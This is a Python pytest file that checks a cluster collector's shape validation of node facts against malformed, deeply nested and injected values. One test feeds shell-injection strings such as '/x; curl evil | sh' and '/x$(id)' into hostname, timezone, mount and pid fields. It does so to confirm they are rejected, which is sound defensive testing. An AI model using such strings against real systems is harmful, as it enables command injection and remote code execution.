"""A node may lie: its document is bounded in form, and what does not fit counts as what could not be read."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from check_world import healthy_documents, the_desired
from test_collector import document

from fatecloud.collect.gather import gather
from fatecloud.collect.node.main import NAMED
from fatecloud.collect.shapes import SHAPES, misshapen
from fatecloud.model.completed import Completed
from fatecloud.model.layout import for_collector
from fatecloud.model.observed import NodeFacts, Unreachable

DEEP: Any = "x"
for _ in range(30):
    DEEP = {"a": [DEEP]}
LIES: tuple[Any, ...] = (-1, 10**30, 1.5, True, "x", [], [1], {}, {"a": 1}, {"x": None}, {"/etc": {"mode": "x"}}, DEEP)


def test_what_the_collector_says_of_this_machine_fits(tmp_path: Any) -> None:
    services = [{"key": "9999/flow@a1", "unit": "x.service", "slug": "x", "supervision": "systemd", "home": "/x"}]
    spec = {
        "layout": for_collector(str(tmp_path)),
        "surroundings": True,
        "services": services,
        "paths": ["/"],
        "users": ["root", "no-such-user"],
        "files": ["/etc/passwd", "/none", "/dev/null"],
        "directories": ["/etc", "/none"],
        "tools": ["sh"],
        "sysctl": ["kernel.ostype"],
    }
    facts = document(spec)["facts"] | document({**spec, "want": sorted(NAMED)})["facts"]
    read = {name: fact["value"] for name, fact in facts.items() if "value" in fact}
    assert [name for name, value in read.items() if misshapen(name, value)] == []
    assert set(SHAPES) - set(facts) == set()


def test_what_a_healthy_cluster_says_fits() -> None:
    for facts in healthy_documents().values():
        assert [name for name, value in facts.items() if misshapen(name, value)] == []


@pytest.mark.parametrize("name", sorted(SHAPES))
def test_each_fact_has_forms_that_it_does_not_have(name: str) -> None:
    assert misshapen(name, -1)
    assert sum(misshapen(name, lie) for lie in LIES) >= 5


@pytest.mark.parametrize("key", ["flow", "9999/flow", "../x@a1", "9999/flow@a1/../..", "", "9999/flow@a1\n"])
def test_a_manifest_names_services_only(key: str) -> None:
    assert misshapen("manifest", {"services": {key: {}}})
    assert not misshapen("manifest", {"services": {"9999/flow@a1": {}}})


@pytest.mark.parametrize("evil", ["/x; curl evil | sh", "/x$(id)", "/x`id`", "/x' #", "/x\\n/y", "x"])
def test_what_becomes_a_word_of_a_command_is_one_word(evil: str) -> None:
    now = {"epoch": 1, "boot_epoch": None, "synchronized": True}
    assert misshapen("own_name", {"hostname": evil + " ", "addresses": []})
    assert misshapen("clock", {**now, "timezone": evil + ";"})
    disk = {"/": {"mount": evil, "device": "x", "fstype": "x", "options": "rw"}}
    figures = dict.fromkeys(("total", "available", "inodes_total"), 1)
    assert misshapen("disk", {"/": {**disk["/"], **figures}})
    assert not misshapen("disk", {"/": {**disk["/"], **figures, "mount": "/data disk/1"}})
    assert misshapen("services", {"9999/flow@a1": {"state": "running", "pids": [evil]}})


class Saying:
    """A node whose collector says this."""

    def __init__(self, text: bytes) -> None:
        self.text = text

    def run(self, *_: Any, **__: Any) -> Completed:
        """As a transport does."""
        return Completed(0, self.text, b"", 0.1)


@pytest.mark.parametrize(
    "change",
    [
        {"facts": []},
        {"facts": {"clock": []}},
        {"facts": {"clock": {"error": ["x"]}}},
        {"probes": {"x": 1}},
        {"probes": {"x": {"exit": "0", "data": {}, "error": None, "seconds": 1}}},
        {"probes": {"x": {"exit": 0, "data": {}, "error": None, "seconds": 10**400}}},
        {"begun": "x"},
        {"begun": 10**400},
        {"facts": DEEP},
    ],
)
def test_a_document_of_another_form_costs_its_node_and_no_more(change: dict[str, Any]) -> None:
    now = time.time()
    said = {"version": 1, "begun": now, "finished": now, "facts": {}, "probes": {}, **change}
    desired = the_desired()
    found = gather(desired, lambda _node, _seconds: Saying(json.dumps(said).encode()), nodes=("a1",)).nodes["a1"]
    assert isinstance(found, NodeFacts | Unreachable)
    if isinstance(found, NodeFacts):
        assert all(isinstance(fact.error, str) for fact in found.facts.values() if fact.value is None)
